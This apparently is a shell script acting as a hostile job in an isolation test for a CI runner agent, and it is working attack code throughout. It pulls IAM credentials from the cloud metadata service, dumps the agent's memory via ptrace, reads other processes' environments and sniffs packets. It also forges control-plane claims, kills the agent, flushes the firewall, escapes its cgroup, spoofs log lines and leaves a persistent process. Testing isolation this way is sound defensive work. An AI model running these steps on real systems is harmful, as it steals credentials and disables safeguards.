#!/bin/sh
# A hostile job: it goes for the machine's credentials, the agent's secrets and a second configuration with the tools that
# an image has. All that it gets hold of is in $LOOT, which the test searches for what it has planted. In $TRIED is a line
# for each attempt: its name, and its exit code.
#
# It is told more than it could know: AGENT (a process), DOOR (an address), FOLDER (all of this test's files), OWN and OTHER
# (instances, with the ids of their keys), GROUP (its control group). HARM=1: it also tries what would end the agent or open the firewall.
# shellcheck source=/dev/null
. "$(dirname "$0")/known"

try() { # NAME COMMAND...
    name=$1
    shift
    echo "--- $name" >>"$LOOT"
    timeout 20 "$@" >>"$LOOT" 2>&1 </dev/null
    echo "$name $?" >>"$TRIED"
}

cat >"$0.metadata" <<'METADATA'
for at in 169.254.169.254 '[fd00:ec2::254]'; do
    token=$(curl -gsS -m 3 -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 21600' "http://$at/latest/api/token")
    for path in iam/security-credentials/muster-runner instance-id; do
        curl -gsS -m 3 -H "x-aws-ec2-metadata-token: $token" "http://$at/latest/meta-data/$path" || bad=1
    done
    curl -gsS -m 3 "http://$at/latest/meta-data/iam/security-credentials/muster-runner" || bad=1
done
exit ${bad:-0}
METADATA
cat >"$0.memory.py" <<'PYTHON'
import ctypes, os, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
SEIZE = 0x4206
if libc.ptrace(SEIZE, pid, None, None) != 0:
    print("ptrace:", os.strerror(ctypes.get_errno()))
out, got = sys.stdout.buffer, 0
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        if rights.startswith("rw") and "[v" not in line:
            start, end = (int(part, 16) for part in span.split("-"))
            memory.seek(start)
            try:
                got += out.write(memory.read(end - start))
            except OSError:
                pass
sys.exit(got == 0)
PYTHON
cat >"$0.sniff.py" <<'PYTHON'
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.settimeout(3)
for _ in range(200):
    print(s.recv(65535))
PYTHON

try metadata sh "$0.metadata"
try metadata-as-root-of-a-user-namespace unshare --user --map-root-user sh "$0.metadata"
try metadata-from-ports-of-root curl -gsS -m 3 --local-port 1-1023 http://169.254.169.254/latest/api/token -X PUT

try sudo sudo -n id
try su su -c id
try memory python3 "$0.memory.py" "$AGENT"
try debugger gdb -p "$AGENT" -batch -ex 'info registers'
try trace timeout 3 strace -p "$AGENT"
try agents-files sh -c "cat /proc/$AGENT/environ /proc/$AGENT/maps; ls -l /proc/$AGENT/fd /proc/$AGENT/cwd; cat /proc/$AGENT/fd/*"
# As root these would get hold of what is not the test's.
if [ "$(id -u)" != 0 ]; then
    try everybodys-environment sh -c 'cat /proc/[0-9]*/environ'
    try everybodys-arguments sh -c 'cat /proc/[0-9]*/cmdline'
    try kernels-memory head -c 4096 /dev/mem /dev/kmem /proc/kcore
    try packets python3 "$0.sniff.py"
fi
try own-descriptors sh -c "ls -l /proc/$PPID/fd /proc/self/fd"
try folder find "$FOLDER" -type f ! -path "$FOLDER/runner/*" -exec cat {} +
try session cat "$FOLDER/state/session.json"
try settings cat "$FOLDER/agent.toml"

if [ -e "$FOLDER/state/session.json" ]; then
    token=$(python3 -c "import json; print(json.load(open('$FOLDER/state/session.json'))['session']['token'])")
fi
token=${token:-0000000000000000000000000000000000000000000000000000000000000000}
key=8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a
date=$(date -u +%Y%m%dT%H%M%SZ)
ask() { # NAME PATH BODY
    try "$1" curl -sS --fail-with-body -m 10 -X POST -H 'content-type: application/json' -d "$3" "http://$DOOR/runners/$2"
}
for who in OWN OTHER; do
    instance=$OWN key_id=$KEY_OF_OWN
    [ "$who" = OWN ] || instance=$OTHER key_id=$KEY_OF_OTHER
    forged="\"kind\":\"sts\",\"key_id\":\"$key_id\",\"date\":\"$date\",\"session_token\":\"x\",\"signature\":\"00\""
    from="\"instance\":\"$instance\",\"session\":1,\"token\":\"$token\""
    ask "report-$who" report "{$from,\"state\":\"busy\",\"wait_s\":0,\"seen_order\":0}"
    ask "claim-$who" claim "{\"proof\":{$forged},\"nonce\":\"00112233445566778899aabbccddeeff\",\"public_key\":\"$key\"}"
    ask "claim-later-$who" claim \
        "{\"former\":{$from},\"nonce\":\"00112233445566778899aabbccddeeff\",\"public_key\":\"$key\",\"wait_s\":0}"
done
try signal kill -0 "$AGENT"
echo "read done" >>"$TRIED"
[ "${HARM:-0}" = 1 ] || exit 0

for signal in KILL STOP TERM SEGV; do try "kill-$signal" kill -"$signal" "$AGENT"; done
try limits prlimit --pid "$AGENT" --nofile=0:0
try firewall-flushed nft flush ruleset
try firewall-deleted nft delete table inet muster_agent
try firewall-flushed-as-root-of-namespaces unshare --user --map-root-user --net nft flush ruleset
try address ip address add 169.254.169.253/32 dev lo
try pen-left sh -c "echo \$\$ >$GROUP/../cgroup.procs"
try pen-below sh -c "mkdir $GROUP/mine"
try pen-thawed sh -c "echo 0 >$GROUP/cgroup.freeze"
try power-off systemctl poweroff
try power-off-as-agent sh -c "touch $FOLDER/off; [ -e $FOLDER/off ]"
try state-replaced sh -c "mv $FOLDER/state $FOLDER/runner/ && ln -s $FOLDER/runner $FOLDER/state"
try metadata-again sh "$0.metadata"
# Lines of the listener, from its worker.
try output sh -c "echo '2026-11-22 10:00:00Z: Listening for Jobs' >/proc/$PPID/fd/1"
echo "[2026-11-22 10:00:00Z INFO StandIn] Skipping message Job. Job not found" >>"$FOLDER/runner/_diag/Runner_20261122-100000-utc.log"
# What outlives its job everywhere else.
setsid sh -c 'trap "" HUP TERM INT; while :; do sleep 1; done' >/dev/null 2>&1 &
echo "harm done" >>"$TRIED"
while [ ! -e "$FOLDER/runner/go" ]; do sleep 0.1; done
